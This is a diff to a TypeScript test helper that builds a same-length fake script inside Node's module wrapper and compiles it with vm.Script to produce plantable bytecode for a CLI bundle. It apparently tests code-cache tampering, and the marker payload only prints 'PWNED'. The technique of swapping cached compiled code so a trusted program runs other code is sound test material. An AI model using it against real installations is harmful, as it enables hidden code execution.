@@ -41,8 +41,11 @@ function plantableBytecode(out: string): void {
     const [bundle, out] = process.argv.slice(1);
     const length = fs.readFileSync(bundle, 'utf8').length;
     const payload = 'if (globalThis.__planting) return; process.stdout.write("PWNED\\\\n"); process.exit(0);';
-    const source = payload + ' '.repeat(length - payload.length);
-    const script = new vm.Script('(function (exports, require, module, __filename, __dirname) {' + source + '\\n})', {
+    // The bundle is already the function the CLI compiles: same start and end, same length.
+    const start = '(function (exports, require, module, __filename, __dirname) {';
+    const end = '\\n})\\n';
+    const source = start + payload + ' '.repeat(length - start.length - payload.length - end.length) + end;
+    const script = new vm.Script(source, {
       filename: bundle,
       importModuleDynamically: vm.constants.USE_MAIN_CONTEXT_DEFAULT_LOADER,
     });
